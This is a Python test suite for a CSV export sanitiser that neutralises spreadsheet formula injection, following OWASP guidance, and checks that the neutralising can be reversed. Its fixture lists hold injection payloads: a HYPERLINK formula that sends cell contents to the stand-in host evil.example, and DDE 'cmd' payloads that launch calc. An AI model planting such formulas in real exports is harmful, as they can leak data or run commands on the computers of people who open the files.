"""CSV formula injection: OWASP "CSV Injection" (prefix a single quote to a cell starting with
= + - @ tab or carriage return; ASVS 1.2.10 adds the null character). Expected cells written by hand."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from torbayreport.disclose.csvsafe import neutralise, neutralise_value, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    " =1+1",          # leading blank, then a formula
    "\uff1d1+1",       # full-width equals sign
    "-",
    "=",
    "\0=1",
]
HARMLESS = ["Ruth's team", "1+1", "a=b", "email a@b.example", "", "[c]", "Team - North", "'quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_quote(text):
    assert neutralise_value(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_unchanged(text):
    assert neutralise_value(text) == text


def test_numbers_stay_numbers_and_text_is_quoted(tmp_path):
    frame = pd.DataFrame({
        "lead": ["=2+5", "Ruth", None],
        "title": ["+cmd|' /C calc'!A0", "-2+3", "ok"],
        "change": [-3, 0, 2],                    # numeric: a negative number is a number
        "rate": [-0.5, np.nan, 1.25],
        "mixed": [-4, "-4", "x"],                # object column: number stays, text "-4" is quoted
        "=evil": ["a", "b", "c"],                # a column name from the data is text too
    })
    out = neutralise(frame)
    assert out["lead"].tolist()[:2] == ["'=2+5", "Ruth"] and pd.isna(out["lead"].iloc[2])
    assert out["title"].tolist() == ["'+cmd|' /C calc'!A0", "'-2+3", "ok"]
    assert out["change"].tolist() == [-3, 0, 2] and out["change"].dtype == frame["change"].dtype
    assert out["mixed"].tolist() == [-4, "'-4", "x"]
    assert list(out.columns)[-1] == "'=evil"
    assert frame["lead"].iloc[0] == "=2+5"  # input untouched

    path = write_csv(frame, tmp_path / "plan_changes.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    # by hand: the header row, then each row with text quoted for the spreadsheet and numbers as written
    assert rows[0] == ["lead", "title", "change", "rate", "mixed", "'=evil"]
    assert rows[1] == ["'=2+5", "'+cmd|' /C calc'!A0", "-3", "-0.5", "-4", "a"]
    assert rows[2] == ["Ruth", "'-2+3", "0", "", "'-4", "b"]
    assert rows[3] == ["", "ok", "2", "1.25", "x", "c"]
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_string_dtype_columns(tmp_path):
    frame = pd.DataFrame({"team": pd.Series(["@team", "North", pd.NA], dtype="string")})
    out = neutralise(frame)
    assert out["team"].dtype == "string"
    assert out["team"].tolist()[:2] == ["'@team", "North"] and pd.isna(out["team"].iloc[2])


def test_line_breaks_inside_a_cell_stay_inside_it(tmp_path):
    frame = pd.DataFrame({"note": ["line one\n=1+1", "a,b"], "n": [1, 2]})
    path = write_csv(frame, tmp_path / "x.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1:] == [["line one\n=1+1", "1"], ["a,b", "2"]]


def test_quoted_formulas_get_one_more_quote_and_restore_is_the_exact_inverse(tmp_path):
    from torbayreport.disclose.csvsafe import read_csv, restore, restore_value

    assert neutralise_value("'=1+1") == "''=1+1"   # Excel shows '=1+1, as typed
    assert neutralise_value("'quoted") == "'quoted"  # no trigger after the quote: unchanged
    for text in FORMULAS + HARMLESS + ["'=1+1", "''-2", "'"]:
        assert restore_value(neutralise_value(text)) == text
    frame = pd.DataFrame({"lead": FORMULAS + ["'=x", "ok"], "n": range(-7, 7)})
    assert restore(neutralise(frame)).equals(frame)
    # through a file: the printable ones (a CSV reader turns a lone CR into a line end, NUL is not text)
    printable = frame[~frame["lead"].str.contains("[\r\0]")].reset_index(drop=True)
    back = read_csv(write_csv(printable, tmp_path / "plan_overdue.csv"), keep_default_na=False)
    assert back["lead"].tolist() == printable["lead"].tolist()
    assert back["n"].tolist() == printable["n"].tolist()


def test_a_written_csv_is_readable_like_any_other_file(tmp_path):
    import os
    import stat

    mask = os.umask(0o022)
    try:
        path = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "out.csv")
    finally:
        os.umask(mask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644  # not mkstemp's 0600
